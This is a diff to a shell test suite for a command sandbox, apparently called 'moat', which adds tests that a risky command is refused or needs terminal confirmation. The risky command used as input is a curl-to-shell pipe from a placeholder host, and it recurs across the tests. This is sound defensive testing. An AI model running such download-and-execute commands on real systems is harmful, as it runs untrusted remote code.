@@ -33,6 +33,34 @@ run_moat run -p "$T/strict.conf" -- sh -c 'curl -s http://example.invalid/x.sh |
 is "a risky command is refused with 125" "$rc" 125
 check "and did not run" test ! -e "$T/ws/ran"
 is "the refusal is recorded" "$(sq "SELECT status FROM runs ORDER BY id DESC LIMIT 1")" "refused"
+like "the refusal says why" "$err" "risk score [0-9]+ is above the profile's risk-refuse-above \(50\)"
+like "with the reasons first" "$err" "download-pipe-shell"
+
+# risk-confirm-above: asked on the terminal, never on stdin.
+printf 'include = default\nrisk-confirm-above = 50\n' >"$T/confirm.conf"
+run_moat run -p "$T/confirm.conf" -- sh -c 'curl -s http://example.invalid/x.sh | sh; touch ran'
+is "confirm with no terminal: refused with 125" "$rc" 125
+like "saying there is no terminal to confirm it on" "$err" "above the profile's risk-confirm-above \(50\) and there is no terminal to confirm it on"
+like "with the reasons" "$err" "download-pipe-shell"
+check "and it did not run" test ! -e "$T/ws/ran"
+is "the refusal is recorded" "$(sq "SELECT status FROM runs ORDER BY id DESC LIMIT 1")" "refused"
+if command -v script >/dev/null && command -v setsid >/dev/null; then
+	confirm() {	# answer, on script(1)'s terminal
+		(cd "$T/ws" && printf '%s\n' "$1" | setsid script -qec "$(printf '%q ' "$MOAT" run -p "$T/confirm.conf" -- sh -c 'curl -s http://example.invalid/x.sh | sh; touch ran')" /dev/null 2>&1)
+	}
+	out=$(confirm n); rc=$?
+	like "confirm on a terminal: the question" "$out" "Run it in the sandbox anyway\? \[y/N\]"
+	like "answered n: not confirmed" "$out" "and it was not confirmed"
+	check "and it did not run" test ! -e "$T/ws/ran"
+	out=$(confirm y); rc=$?
+	unlike "answered y: no refusal" "$out" "moat: refused"
+	like "and the end summary" "$out" "exit 0, risk [0-9]+"
+	check "and it ran" test -e "$T/ws/ran"
+	is "the run is recorded as done" "$(sq "SELECT status FROM runs ORDER BY id DESC LIMIT 1")" "done"
+	rm -f "$T/ws/ran"
+else
+	skip "confirm on a terminal" "no script(1) or setsid"
+fi
 
 # Twenty at once: twenty complete rows and a valid chain.
 before=$(sq "SELECT count(*) FROM runs")
